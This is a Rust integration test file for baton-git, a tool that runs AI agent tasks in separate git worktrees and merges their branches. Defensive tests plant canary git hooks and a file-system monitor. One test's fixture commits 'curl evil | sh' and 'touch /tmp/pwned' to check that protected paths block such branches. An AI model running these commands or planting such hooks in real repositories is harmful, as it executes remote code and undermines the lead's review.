//! baton-git against the real `git`: worktrees per task, what a branch records, and merges
//! that happen whole or not at all.

use std::path::Path;

use baton_core::ProtectedPaths;
use baton_core::review::DependencyConflicts;
use baton_core::{Completion, Layout};
use baton_git::{
    GitError, Landed, Reuse, TrialOutcome, Worktrees, merge_task_branch, record_branch,
};
use baton_test_support::git;

/// A repository on `main` with one commit, and a project folder (`.coordination/`) at its top.
fn project() -> (tempfile::TempDir, Layout) {
    let dir = tempfile::tempdir().unwrap();
    let top = dir.path();
    git(top, &["init", "-q", "-b", "main"]);
    // The lead's merges run as the repository's configured user.
    git(top, &["config", "user.name", "lead"]);
    git(top, &["config", "user.email", "lead@example.invalid"]);
    std::fs::write(top.join("README.md"), "hello\n").unwrap();
    git(top, &["add", "README.md"]);
    git(top, &["commit", "-q", "-m", "start"]);
    let layout = Layout::at(top.join(".coordination"));
    std::fs::create_dir_all(layout.root()).unwrap();
    std::fs::write(layout.tasks_file(), "{}").unwrap();
    (dir, layout)
}

fn commit_file(dir: &Path, name: &str, text: &str) {
    std::fs::write(dir.join(name), text).unwrap();
    git(dir, &["add", name]);
    git(dir, &["commit", "-q", "-m", &format!("write {name}")]);
}

/// No paths protected but `.coordination/` (which always is).
fn unprotected() -> ProtectedPaths {
    ProtectedPaths::new(&[]).unwrap()
}

fn head(dir: &Path) -> String {
    git(dir, &["rev-parse", "HEAD"]).trim().to_string()
}

#[test]
fn a_task_gets_a_worktree_on_its_own_branch_from_the_leads() {
    let (dir, layout) = project();
    let worktrees = Worktrees::open(&layout).unwrap();
    let tree = worktrees.prepare("task-1").unwrap();
    assert_eq!(tree.branch, "baton/task-1");
    assert_eq!(tree.base.as_deref(), Some("main"));
    assert!(!tree.reused);
    assert_eq!(tree.path, layout.worktree_dir("task-1").unwrap());
    assert!(tree.workdir.join("README.md").is_file());
    commit_file(&tree.workdir, "a.txt", "a\n");

    // The lead's checkout does not see the worktrees, and its branch did not move.
    assert_eq!(
        git(
            dir.path(),
            &["status", "--porcelain", "--", ".coordination/worktrees"]
        ),
        ""
    );
    assert!(!dir.path().join("a.txt").exists());

    let mut completion = Completion::default();
    record_branch(&layout, "task-1", &mut completion).unwrap();
    let record = completion.branch.unwrap();
    assert_eq!(record.name, "baton/task-1");
    assert_eq!(record.base.as_deref(), Some("main"));
    assert_eq!(record.commits.len(), 1);
    assert_eq!(record.commits[0].subject, "write a.txt");
    assert_eq!(record.commits[0].id, head(&tree.workdir));
    assert!(record.uncommitted.is_empty());
    assert_eq!(completion.files_created, vec!["a.txt".to_string()]);

    // Prepared again (a retry), it is the same worktree with its commit.
    let again = worktrees.prepare("task-1").unwrap();
    assert!(again.reused);
    assert!(again.workdir.join("a.txt").is_file());
}

#[test]
fn a_removed_worktree_comes_back_from_its_branch_and_uncommitted_work_is_reported() {
    let (_dir, layout) = project();
    let worktrees = Worktrees::open(&layout).unwrap();
    let tree = worktrees.prepare("t2").unwrap();
    commit_file(&tree.workdir, "kept.txt", "kept\n");
    std::fs::write(tree.workdir.join("loose.txt"), "not committed\n").unwrap();

    let listed = worktrees.list().unwrap();
    assert_eq!(listed.len(), 1);
    assert_eq!(listed[0].task, "t2");
    assert_eq!(listed[0].uncommitted, vec!["loose.txt".to_string()]);
    let record = worktrees.branch_record("t2").unwrap().unwrap();
    assert_eq!(record.uncommitted, vec!["loose.txt".to_string()]);

    // git refuses to remove a worktree with work in it, and so do we.
    assert!(worktrees.remove("t2").is_err());
    assert!(tree.workdir.join("loose.txt").is_file());
    std::fs::remove_file(tree.workdir.join("loose.txt")).unwrap();
    worktrees.remove("t2").unwrap();
    assert!(!tree.path.exists());
    assert!(worktrees.list().unwrap().is_empty());

    let back = worktrees.prepare("t2").unwrap();
    assert!(!back.reused);
    assert!(
        back.workdir.join("kept.txt").is_file(),
        "the branch's commit is back"
    );
}

#[test]
fn a_merge_brings_the_branch_once_and_says_so_the_second_time() {
    let (dir, layout) = project();
    let worktrees = Worktrees::open(&layout).unwrap();
    let tree = worktrees.prepare("task-3").unwrap();
    commit_file(&tree.workdir, "c.txt", "c\n");
    let merged = merge_task_branch(
        &worktrees,
        "task-3",
        "Merge baton/task-3: c",
        &unprotected(),
    )
    .unwrap();
    assert_eq!(merged.into, "main");
    assert!(!merged.already_merged);
    assert_eq!(merged.files, vec!["c.txt".to_string()]);
    assert_eq!(merged.commit, head(dir.path()));
    assert_eq!(
        std::fs::read_to_string(dir.path().join("c.txt")).unwrap(),
        "c\n"
    );
    let subject = git(dir.path(), &["log", "-1", "--format=%s"]);
    assert_eq!(subject.trim(), "Merge baton/task-3: c");
    let parents = git(dir.path(), &["log", "-1", "--format=%P"]);
    assert_eq!(parents.split_whitespace().count(), 2, "a merge commit");

    let again = merge_task_branch(&worktrees, "task-3", "again", &unprotected()).unwrap();
    assert!(again.already_merged);
    assert_eq!(again.commit, merged.commit);
}

#[test]
fn a_conflicting_merge_is_aborted_and_leaves_the_checkout_as_it_was() {
    let (dir, layout) = project();
    let worktrees = Worktrees::open(&layout).unwrap();
    let tree = worktrees.prepare("t4").unwrap();
    commit_file(&tree.workdir, "README.md", "the task's words\n");
    commit_file(dir.path(), "README.md", "the lead's words\n");
    // An untracked file of the lead's, which must survive the abort.
    std::fs::write(dir.path().join("notes.txt"), "mine\n").unwrap();
    let before = head(dir.path());

    let err = merge_task_branch(&worktrees, "t4", "Merge", &unprotected()).unwrap_err();
    match &err {
        GitError::Conflict {
            branch,
            into,
            files,
        } => {
            assert_eq!(branch, "baton/t4");
            assert_eq!(into, "main");
            assert_eq!(files, &vec!["README.md".to_string()]);
        }
        other => panic!("expected a conflict, got {other:?}"),
    }
    assert_eq!(err.kind(), baton_core::ErrorKind::MergeConflict);
    assert!(err.to_string().contains("nothing changed"), "{err}");
    assert_eq!(head(dir.path()), before);
    assert_eq!(
        git(
            dir.path(),
            &["status", "--porcelain", "--untracked-files=no"]
        ),
        ""
    );
    assert_eq!(
        std::fs::read_to_string(dir.path().join("README.md")).unwrap(),
        "the lead's words\n"
    );
    assert_eq!(
        std::fs::read_to_string(dir.path().join("notes.txt")).unwrap(),
        "mine\n"
    );
    assert!(!dir.path().join(".git/MERGE_HEAD").exists());
}

#[test]
fn a_merge_waits_for_the_leads_uncommitted_changes_but_not_for_coordination_files() {
    let (dir, layout) = project();
    let worktrees = Worktrees::open(&layout).unwrap();
    let tree = worktrees.prepare("t5").unwrap();
    commit_file(&tree.workdir, "e.txt", "e\n");
    // Tracked coordination files change all the time; they do not count.
    git(dir.path(), &["add", "-f", ".coordination/tasks.json"]);
    git(dir.path(), &["commit", "-q", "-m", "track the board"]);
    std::fs::write(layout.tasks_file(), "{\"changed\": true}").unwrap();
    std::fs::write(dir.path().join("README.md"), "edited, not committed\n").unwrap();
    let before = head(dir.path());

    let err = merge_task_branch(&worktrees, "t5", "Merge", &unprotected()).unwrap_err();
    assert!(
        matches!(&err, GitError::UncommittedChanges { files } if files == &vec!["README.md".to_string()]),
        "{err:?}"
    );
    assert_eq!(head(dir.path()), before);
    assert_eq!(
        std::fs::read_to_string(dir.path().join("README.md")).unwrap(),
        "edited, not committed\n"
    );

    git(dir.path(), &["checkout", "--", "README.md"]);
    let merged = merge_task_branch(&worktrees, "t5", "Merge", &unprotected()).unwrap();
    assert_eq!(merged.files, vec!["e.txt".to_string()]);
}

#[test]
fn no_repository_no_branch_and_a_detached_head_are_said_plainly() {
    let plain = tempfile::tempdir().unwrap();
    let layout = Layout::at(plain.path().join(".coordination"));
    let err = Worktrees::open(&layout).unwrap_err();
    assert!(matches!(err, GitError::NotARepository { .. }), "{err:?}");
    assert!(err.to_string().contains("git init"), "{err}");

    let (dir, layout) = project();
    let worktrees = Worktrees::open(&layout).unwrap();
    let err = merge_task_branch(&worktrees, "never", "Merge", &unprotected()).unwrap_err();
    assert!(matches!(err, GitError::NoBranch { .. }), "{err:?}");
    assert!(err.to_string().contains("--worktree"), "{err}");
    let mut completion = Completion::default();
    record_branch(&layout, "never", &mut completion).unwrap();
    assert!(completion.branch.is_none(), "no worktree, nothing recorded");

    git(dir.path(), &["checkout", "-q", "--detach"]);
    let err = worktrees.prepare("t6").unwrap_err();
    assert!(matches!(err, GitError::DetachedHead { .. }), "{err:?}");
    assert!(!layout.worktree_dir("t6").unwrap().exists());
}

#[test]
fn a_project_in_a_subfolder_works_in_the_same_subfolder_of_its_worktree() {
    let (dir, _) = project();
    let sub = dir.path().join("app");
    std::fs::create_dir_all(&sub).unwrap();
    commit_file(dir.path(), "app/main.rs", "fn main() {}\n");
    let layout = Layout::at(sub.join(".coordination"));
    std::fs::create_dir_all(layout.root()).unwrap();
    let worktrees = Worktrees::open(&layout).unwrap();
    let tree = worktrees.prepare("t7").unwrap();
    assert_eq!(tree.workdir, tree.path.join("app/"));
    assert!(tree.workdir.join("main.rs").is_file());
    commit_file(&tree.workdir, "lib.rs", "\n");
    let record = worktrees.branch_record("t7").unwrap().unwrap();
    let (modified, created) = worktrees.changed_files(&record).unwrap();
    assert!(modified.is_empty());
    assert_eq!(created, vec!["lib.rs".to_string()], "project-relative");
}

fn task(id: &str, dependencies: &[&str]) -> baton_core::Task {
    let mut task: baton_core::Task = serde_json::from_value(serde_json::json!({
        "id": id,
        "description": format!("task {id}"),
        "status": "claimed",
    }))
    .unwrap();
    task.dependencies = dependencies.iter().map(|d| d.to_string()).collect();
    task
}

#[test]
fn a_dependents_branch_starts_with_its_dependencies_work_and_lands_it_once() {
    let (dir, layout) = project();
    let worktrees = Worktrees::open(&layout).unwrap();
    let one = worktrees.prepare("d1").unwrap();
    commit_file(&one.workdir, "one.txt", "one\n");
    let two = worktrees.prepare("d2").unwrap();
    commit_file(&two.workdir, "two.txt", "two\n");

    // d3 depends on both and on a task worked without a branch: it sees both files.
    let three = worktrees
        .prepare_task(
            &task("d3", &["d1", "d2", "nobranch"]),
            DependencyConflicts::Work,
            None,
        )
        .unwrap();
    assert_eq!(three.dependencies.merged, ["baton/d1", "baton/d2"]);
    assert_eq!(three.dependencies.conflict, None);
    assert!(three.workdir.join("one.txt").is_file());
    assert!(three.workdir.join("two.txt").is_file());
    commit_file(&three.workdir, "three.txt", "three\n");
    // Its record and its review are its own work, not its dependencies'.
    let record = worktrees.branch_record("d3").unwrap().unwrap();
    let subjects: Vec<&str> = record.commits.iter().map(|c| c.subject.as_str()).collect();
    assert_eq!(subjects, ["write three.txt"]);
    assert_eq!(
        worktrees.changed_files(&record).unwrap(),
        (Vec::new(), vec!["three.txt".to_string()])
    );
    let diff = worktrees.branch_diff("d3").unwrap();
    let paths: Vec<&str> = diff.files.iter().map(|f| f.path.as_str()).collect();
    assert_eq!(paths, ["three.txt"]);
    // A dependency already in the branch (through another) is not merged twice.
    let four = worktrees
        .prepare_task(&task("d4", &["d3", "d1"]), DependencyConflicts::Work, None)
        .unwrap();
    assert_eq!(four.dependencies.merged, ["baton/d3"]);
    assert!(four.workdir.join("one.txt").is_file());

    // Merging the dependent brings its dependencies' commits; theirs are then found merged.
    let merged = merge_task_branch(&worktrees, "d3", "merge d3", &unprotected()).unwrap();
    assert!(!merged.already_merged);
    for file in ["one.txt", "two.txt", "three.txt"] {
        assert!(dir.path().join(file).is_file(), "{file} not merged");
    }
    assert!(
        merge_task_branch(&worktrees, "d1", "merge d1", &unprotected())
            .unwrap()
            .already_merged
    );
    assert!(
        merge_task_branch(&worktrees, "d2", "merge d2", &unprotected())
            .unwrap()
            .already_merged
    );
    // One commit each in the lead's history, however many branches carried it.
    let log = git(dir.path(), &["log", "--format=%s", "main"]);
    assert_eq!(log.lines().filter(|s| *s == "write one.txt").count(), 1);

    // A branch that exists already is not merged into again (a retry goes on from its work).
    let again = worktrees
        .prepare_task(&task("d4", &["d3", "d1"]), DependencyConflicts::Work, None)
        .unwrap();
    assert!(again.reused);
    assert!(again.dependencies.merged.is_empty());
}

/// Two dependencies that write the same file differently.
fn conflicting_dependencies(worktrees: &Worktrees) {
    let one = worktrees.prepare("c1").unwrap();
    commit_file(&one.workdir, "same.txt", "from c1\n");
    let two = worktrees.prepare("c2").unwrap();
    commit_file(&two.workdir, "same.txt", "from c2\n");
    let three = worktrees.prepare("c3").unwrap();
    commit_file(&three.workdir, "three.txt", "three\n");
}

#[test]
fn conflicting_dependencies_are_the_dependents_first_job_with_the_files_named() {
    let (_dir, layout) = project();
    let worktrees = Worktrees::open(&layout).unwrap();
    conflicting_dependencies(&worktrees);
    let tree = worktrees
        .prepare_task(
            &task("c4", &["c1", "c2", "c3"]),
            DependencyConflicts::Work,
            None,
        )
        .unwrap();
    assert_eq!(tree.dependencies.merged, ["baton/c1"]);
    let conflict = tree.dependencies.conflict.clone().unwrap();
    assert_eq!(conflict.branch, "baton/c2");
    assert_eq!(conflict.files, ["same.txt"]);
    assert!(conflict.in_progress);
    assert_eq!(conflict.not_merged, ["baton/c3"]);
    // The merge waits in the worktree, markers and all.
    git(
        &tree.workdir,
        &["rev-parse", "-q", "--verify", "MERGE_HEAD"],
    );
    let text = std::fs::read_to_string(tree.workdir.join("same.txt")).unwrap();
    assert!(text.contains("<<<<<<<"), "{text}");
}

#[test]
fn conflicting_dependencies_held_leave_no_branch_and_fail_naming_the_files() {
    let (_dir, layout) = project();
    let worktrees = Worktrees::open(&layout).unwrap();
    conflicting_dependencies(&worktrees);
    let err = worktrees
        .prepare_task(&task("c4", &["c1", "c2"]), DependencyConflicts::Hold, None)
        .unwrap_err();
    assert!(
        matches!(&err, GitError::DependenciesConflict { task, branch, files }
            if task == "c4" && branch == "baton/c2" && files == &["same.txt".to_string()]),
        "{err:?}"
    );
    assert!(err.to_string().contains("leader reset c4"), "{err}");
    assert!(!worktrees.repo().has_branch("baton/c4").unwrap());
    assert!(!layout.worktree_dir("c4").unwrap().exists());
}

#[test]
fn a_trial_merge_lands_by_fast_forward_only_where_it_was_made() {
    let (dir, layout) = project();
    let worktrees = Worktrees::open(&layout).unwrap();
    let tree = worktrees.prepare("q1").unwrap();
    commit_file(&tree.workdir, "q1.txt", "q1\n");
    let before = head(dir.path());
    let TrialOutcome::Ready(trial) = worktrees
        .trial_merge("q1", "Merge q1", &unprotected())
        .unwrap()
    else {
        panic!("q1 merges cleanly");
    };
    // The trial changed nothing of the lead's; the check would run in its checkout.
    assert_eq!(head(dir.path()), before);
    assert!(trial.checkout.workdir.join("q1.txt").is_file());
    assert!(!dir.path().join("q1.txt").exists());

    // The lead commits meanwhile: the trial is stale, nothing moves.
    commit_file(dir.path(), "lead.txt", "lead\n");
    let moved = head(dir.path());
    assert_eq!(worktrees.land(&trial).unwrap(), Landed::Stale);
    assert_eq!(head(dir.path()), moved);

    // Made again on what is there, it lands: one merge commit, whose first parent is the lead's.
    let TrialOutcome::Ready(trial) = worktrees
        .trial_merge("q1", "Merge q1", &unprotected())
        .unwrap()
    else {
        panic!("q1 merges cleanly");
    };
    let Landed::Moved { commit, files } = worktrees.land(&trial).unwrap() else {
        panic!("lands");
    };
    assert_eq!(head(dir.path()), commit);
    assert_eq!(files, ["q1.txt"]);
    assert_eq!(git(dir.path(), &["rev-parse", "HEAD^1"]).trim(), moved);
    assert!(dir.path().join("q1.txt").is_file());
    assert!(matches!(
        worktrees
            .trial_merge("q1", "again", &unprotected())
            .unwrap(),
        TrialOutcome::AlreadyMerged
    ));
    // The scratch checkout is not a task's worktree.
    let listed: Vec<String> = worktrees
        .list()
        .unwrap()
        .into_iter()
        .map(|w| w.task)
        .collect();
    assert_eq!(listed, ["q1"]);
}

#[test]
fn a_trial_that_conflicts_or_would_overwrite_the_leads_changes_moves_nothing() {
    let (dir, layout) = project();
    let worktrees = Worktrees::open(&layout).unwrap();
    let tree = worktrees.prepare("q2").unwrap();
    commit_file(&tree.workdir, "README.md", "from q2\n");
    commit_file(dir.path(), "README.md", "from the lead\n");
    let before = head(dir.path());
    let TrialOutcome::Conflict { files } = worktrees
        .trial_merge("q2", "Merge q2", &unprotected())
        .unwrap()
    else {
        panic!("q2 conflicts");
    };
    assert_eq!(files, ["README.md"]);
    assert_eq!(head(dir.path()), before);

    // A clean trial whose landing would overwrite what the lead has not committed: refused.
    let other = worktrees.prepare("q3").unwrap();
    commit_file(&other.workdir, "q3.txt", "q3\n");
    let TrialOutcome::Ready(trial) = worktrees
        .trial_merge("q3", "Merge q3", &unprotected())
        .unwrap()
    else {
        panic!("q3 merges cleanly");
    };
    std::fs::write(dir.path().join("q3.txt"), "the lead's own\n").unwrap();
    assert!(matches!(
        worktrees.land(&trial).unwrap(),
        Landed::Refused { .. }
    ));
    assert_eq!(head(dir.path()), before);
    assert_eq!(
        std::fs::read_to_string(dir.path().join("q3.txt")).unwrap(),
        "the lead's own\n"
    );
}

/// A finished task's checkout offered for reuse, not known clean: it is walked first.
fn walked(task: &str) -> Option<Reuse<'_>> {
    Some(Reuse {
        task,
        seen_clean: false,
    })
}

#[test]
fn a_completion_record_says_whether_the_checkout_held_anything_beside_its_commits() {
    let (_dir, layout) = project();
    let worktrees = Worktrees::open(&layout).unwrap();
    let first = worktrees.prepare("k1").unwrap();
    commit_file(&first.workdir, "k1.txt", "k1\n");
    let record = |task: &str| {
        let mut completion = Completion::default();
        let clean = record_branch(&layout, task, &mut completion).unwrap();
        (clean, completion.branch.unwrap().uncommitted)
    };
    assert_eq!(record("k1"), (true, vec![]));

    // Ignored build output: not uncommitted work, but not nothing either.
    std::fs::write(first.workdir.join(".gitignore"), "build/\n").unwrap();
    git(&first.workdir, &["add", ".gitignore"]);
    git(&first.workdir, &["commit", "-qm", "ignore build"]);
    std::fs::create_dir_all(first.workdir.join("build/deep")).unwrap();
    std::fs::write(first.workdir.join("build/deep/out"), "x").unwrap();
    assert_eq!(record("k1"), (false, vec![]));
    std::fs::remove_dir_all(first.workdir.join("build")).unwrap();
    std::fs::write(first.workdir.join("notes.txt"), "left\n").unwrap();
    assert_eq!(record("k1"), (false, vec!["notes.txt".to_string()]));
    std::fs::remove_file(first.workdir.join("notes.txt")).unwrap();

    // Seen clean by the caller after its agent ended: taken over without another walk.
    let second = worktrees
        .prepare_task(
            &task("k2", &[]),
            DependencyConflicts::Work,
            Some(Reuse {
                task: "k1",
                seen_clean: true,
            }),
        )
        .unwrap();
    assert!(!first.path.exists(), "the checkout moved");
    assert!(!second.workdir.join("k1.txt").exists(), "nothing of k1's");
}

#[test]
fn a_workers_next_task_takes_over_the_clean_checkout_its_last_one_left() {
    let (dir, layout) = project();
    let worktrees = Worktrees::open(&layout).unwrap();
    let first = worktrees.prepare("r1").unwrap();
    commit_file(&first.workdir, "r1.txt", "r1\n");
    let inode = |p: &Path| std::os::unix::fs::MetadataExt::ino(&std::fs::metadata(p).unwrap());
    let checkout_file = inode(&first.path.join("README.md"));
    // What a sandbox kept for r1 (its private branch copy, its object store).
    let kept = layout.worktrees_dir().join(".refs/r1");
    worktrees.sandbox_access("r1").unwrap();
    assert!(kept.join("objects/info/alternates").is_file());

    // r1 finished clean: r2 gets its checkout, moved and switched onto a new branch from main.
    let second = worktrees
        .prepare_task(&task("r2", &[]), DependencyConflicts::Work, walked("r1"))
        .unwrap();
    assert!(!first.path.exists(), "moved, not copied");
    assert!(
        !kept.exists(),
        "what the sandbox kept for r1 goes with its checkout"
    );
    assert_eq!(
        inode(&second.path.join("README.md")),
        checkout_file,
        "the same checkout"
    );
    assert_eq!(second.branch, "baton/r2");
    assert_eq!(second.base.as_deref(), Some("main"));
    assert!(!second.workdir.join("r1.txt").exists(), "nothing of r1's");
    assert_eq!(head(&second.workdir), head(dir.path()));
    // r1's branch keeps its work, and its worktree comes back from it when asked.
    let back = worktrees.prepare("r1").unwrap();
    assert!(back.workdir.join("r1.txt").is_file());

    // A checkout with anything left in it (untracked, or ignored build output) is not taken.
    std::fs::write(second.workdir.join("scratch.txt"), "left\n").unwrap();
    let third = worktrees
        .prepare_task(&task("r3", &[]), DependencyConflicts::Work, walked("r2"))
        .unwrap();
    assert!(second.path.exists(), "left where it was");
    assert!(!third.workdir.join("scratch.txt").exists());
    std::fs::write(third.workdir.join(".gitignore"), "build/\n").unwrap();
    git(&third.workdir, &["add", ".gitignore"]);
    git(&third.workdir, &["commit", "-qm", "ignore build"]);
    std::fs::create_dir(third.workdir.join("build")).unwrap();
    std::fs::write(third.workdir.join("build/out"), "x").unwrap();
    let fourth = worktrees
        .prepare_task(&task("r4", &[]), DependencyConflicts::Work, walked("r3"))
        .unwrap();
    assert!(third.path.exists());
    assert!(!fourth.workdir.join("build").exists());
}

/// Commits a new file `name` in `dir` without the repository's hooks or monitor (the agent's
/// own commit, which is not what is tested).
fn quiet_commit(dir: &Path, name: &str) {
    std::fs::write(dir.join(name), "x\n").unwrap();
    let quiet = [
        "-c",
        "core.hooksPath=/dev/null",
        "-c",
        "core.fsmonitor=false",
    ];
    git(dir, &[&quiet[..], &["add", name]].concat());
    git(dir, &[&quiet[..], &["commit", "-qm", name]].concat());
}

#[test]
fn hooks_and_a_file_system_monitor_an_agent_planted_never_run_in_batons_git() {
    let (dir, layout) = project();
    let top = dir.path();
    let canary = top.join("ran.txt");
    let script = format!("#!/bin/sh\necho \"$0\" >> {}\n", canary.display());
    let hooks = top.join(".git/hooks");
    for hook in [
        "pre-commit",
        "pre-merge-commit",
        "commit-msg",
        "post-commit",
        "post-checkout",
        "post-merge",
        "reference-transaction",
        "post-index-change",
    ] {
        std::fs::write(hooks.join(hook), &script).unwrap();
        let mode = std::os::unix::fs::PermissionsExt::from_mode(0o755);
        std::fs::set_permissions(hooks.join(hook), mode).unwrap();
    }
    let monitor = top.join("monitor.sh");
    std::fs::write(&monitor, &script).unwrap();
    let mode = std::os::unix::fs::PermissionsExt::from_mode(0o755);
    std::fs::set_permissions(&monitor, mode).unwrap();
    git(
        top,
        &["config", "core.fsmonitor", &monitor.to_string_lossy()],
    );
    // The planted hooks run for anyone else's git: the canary works.
    git(top, &["commit", "-q", "--allow-empty", "-m", "probe"]);
    assert!(canary.exists(), "the planted hooks are live");
    std::fs::remove_file(&canary).unwrap();

    // Everything Baton's git does for a task: its worktree, its record, a review's diff, a
    // merge by the lead, the merge queue's trial and landing, and the next task's switch.
    let worktrees = Worktrees::open(&layout).unwrap();
    let tree = worktrees.prepare("h1").unwrap();
    quiet_commit(&tree.workdir, "h1.txt");
    let mut completion = Completion::default();
    record_branch(&layout, "h1", &mut completion).unwrap();
    worktrees.branch_diff("h1").unwrap();
    merge_task_branch(&worktrees, "h1", "Merge h1", &unprotected()).unwrap();
    let second = worktrees
        .prepare_task(&task("h2", &[]), DependencyConflicts::Work, walked("h1"))
        .unwrap();
    quiet_commit(&second.workdir, "h2.txt");
    let TrialOutcome::Ready(trial) = worktrees
        .trial_merge("h2", "Merge h2", &unprotected())
        .unwrap()
    else {
        panic!("a trial merge");
    };
    assert!(matches!(
        worktrees.land(&trial).unwrap(),
        Landed::Moved { .. }
    ));
    assert!(
        !canary.exists(),
        "ran: {}",
        std::fs::read_to_string(&canary).unwrap_or_default()
    );
}

#[test]
fn a_branch_that_changes_a_protected_path_is_landed_by_neither_the_queue_nor_the_lead() {
    let (dir, layout) = project();
    // The lead keeps the review settings in git.
    std::fs::write(layout.root().join("review.toml"), "check = \"true\"\n").unwrap();
    git(dir.path(), &["add", "-f", ".coordination/review.toml"]);
    git(dir.path(), &["commit", "-q", "-m", "review settings"]);
    let worktrees = Worktrees::open(&layout).unwrap();
    let tree = worktrees.prepare("p1").unwrap();
    commit_file(&tree.workdir, "work.txt", "work\n");
    std::fs::write(
        tree.workdir.join(".coordination/review.toml"),
        "check = \"touch /tmp/pwned\"\n",
    )
    .unwrap();
    std::fs::create_dir_all(tree.workdir.join("ci")).unwrap();
    std::fs::write(tree.workdir.join("ci/deploy.sh"), "curl evil | sh\n").unwrap();
    git(&tree.workdir, &["add", "-f", "."]);
    git(&tree.workdir, &["commit", "-q", "-m", "and a little more"]);
    let before = head(dir.path());

    let listed = ProtectedPaths::new(&["ci/".to_string()]).unwrap();
    let TrialOutcome::Protected { files } =
        worktrees.trial_merge("p1", "Merge p1", &listed).unwrap()
    else {
        panic!("p1 changes protected files");
    };
    assert_eq!(files, [".coordination/review.toml", "ci/deploy.sh"]);
    let err = merge_task_branch(&worktrees, "p1", "Merge p1", &unprotected()).unwrap_err();
    let GitError::Protected { files, .. } = &err else {
        panic!("refused as protected: {err}");
    };
    assert_eq!(files, &[".coordination/review.toml"]);
    assert!(err.to_string().contains("review.toml's `protect`"), "{err}");
    assert_eq!(head(dir.path()), before);
    assert_eq!(
        std::fs::read_to_string(layout.root().join("review.toml")).unwrap(),
        "check = \"true\"\n"
    );

    // Removing a protected file is a change too: a branch that deletes the lead's settings.
    let other = worktrees.prepare("p2").unwrap();
    git(&other.workdir, &["rm", "-q", ".coordination/review.toml"]);
    git(&other.workdir, &["commit", "-q", "-m", "tidy"]);
    assert!(matches!(
        merge_task_branch(&worktrees, "p2", "Merge p2", &unprotected()),
        Err(GitError::Protected { .. })
    ));
    assert!(layout.root().join("review.toml").is_file());
}

#[test]
fn each_trial_starts_from_a_checkout_without_what_the_last_check_left() {
    let (dir, layout) = project();
    std::fs::write(dir.path().join(".gitignore"), "target/\n").unwrap();
    git(dir.path(), &["add", ".gitignore"]);
    git(dir.path(), &["commit", "-q", "-m", "ignore target"]);
    let worktrees = Worktrees::open(&layout).unwrap();
    for task in ["c1", "c2"] {
        let tree = worktrees.prepare(task).unwrap();
        commit_file(&tree.workdir, &format!("{task}.txt"), "work\n");
    }
    let TrialOutcome::Ready(first) = worktrees
        .trial_merge("c1", "Merge c1", &unprotected())
        .unwrap()
    else {
        panic!("c1 merges cleanly");
    };
    // The first task's check leaves ignored output behind, as a build does.
    let left = first.checkout.workdir.join("target/debug/build-script");
    std::fs::create_dir_all(left.parent().unwrap()).unwrap();
    std::fs::write(&left, "planted").unwrap();
    let TrialOutcome::Ready(second) = worktrees
        .trial_merge("c2", "Merge c2", &unprotected())
        .unwrap()
    else {
        panic!("c2 merges cleanly");
    };
    assert_eq!(second.checkout.path, first.checkout.path);
    assert!(!second.checkout.workdir.join("target").exists());
}

/// Baton reads an agent's worktree (the lead's review, what an attempt left) while the agent
/// may be committing in it: its reads must not take the worktree's index lock, or the agent's
/// `git commit` fails on `index.lock` (seen as a task failed in the desktop's review round).
/// A stale index entry is what makes a plain `git status` rewrite the index under that lock.
#[test]
fn reading_a_worktree_never_rewrites_its_index_under_the_agents_feet() {
    let (_dir, layout) = project();
    let worktrees = Worktrees::open(&layout).unwrap();
    let tree = worktrees.prepare("t3").unwrap();
    commit_file(&tree.workdir, "kept.txt", "kept\n");
    // The same bytes, a later time: git's index entry for the file is stale now.
    let file = std::fs::File::options()
        .write(true)
        .open(tree.workdir.join("kept.txt"))
        .unwrap();
    file.set_modified(std::time::SystemTime::now() + std::time::Duration::from_secs(60))
        .unwrap();
    drop(file);
    let index = git(&tree.workdir, &["rev-parse", "--git-path", "index"]);
    let index = tree.workdir.join(index.trim());
    let before = std::fs::read(&index).unwrap();

    let listed = worktrees.list().unwrap();
    assert!(listed[0].uncommitted.is_empty(), "{listed:?}");
    let record = worktrees.branch_record("t3").unwrap().unwrap();
    assert!(record.uncommitted.is_empty());

    assert_eq!(
        std::fs::read(&index).unwrap(),
        before,
        "Baton's reads left the agent's index as it was (no optional lock taken)"
    );
}

#[test]
fn a_sandbox_is_shown_copies_of_the_shared_folders_files_which_the_leads_git_cannot_replace() {
    let (dir, layout) = project();
    let worktrees = Worktrees::open(&layout).unwrap();
    worktrees.prepare("s1").unwrap();
    let common = dir.path().join(".git");
    // A lock another git holds, and a link planted among the files.
    std::fs::write(common.join("config.lock"), "held").unwrap();
    std::os::unix::fs::symlink(dir.path().join("README.md"), common.join("planted")).unwrap();
    let access = worktrees.sandbox_access("s1").unwrap();
    let (folder, entries) = access.scratch.expect("the shared folder, a scratch folder");
    assert_eq!(folder, common);
    let shown = |name: &str| {
        entries
            .iter()
            .find(|(_, at)| *at == common.join(name))
            .cloned()
    };
    // Folders as they are; files from copies of this attempt's.
    let (refs, _) = shown("refs").expect("refs shown");
    assert_eq!(refs, common.join("refs"));
    let (config, _) = shown("config").expect("config shown");
    assert_ne!(config, common.join("config"));
    assert!(
        config.starts_with(layout.worktrees_dir()),
        "{}",
        config.display()
    );
    assert_eq!(
        std::fs::read(&config).unwrap(),
        std::fs::read(common.join("config")).unwrap()
    );
    assert!(shown("HEAD").is_some());
    for hidden in ["config.lock", "planted", "index"] {
        assert!(shown(hidden).is_none(), "{hidden} is not shown");
    }
    // The lead's git replaces config (a worktree added with --track): the copy stays whole.
    std::fs::remove_file(common.join("config.lock")).unwrap();
    let before = std::fs::read(&config).unwrap();
    worktrees.prepare("s2").unwrap();
    git(dir.path(), &["config", "baton.test", "replaced"]);
    assert_eq!(std::fs::read(&config).unwrap(), before);
}
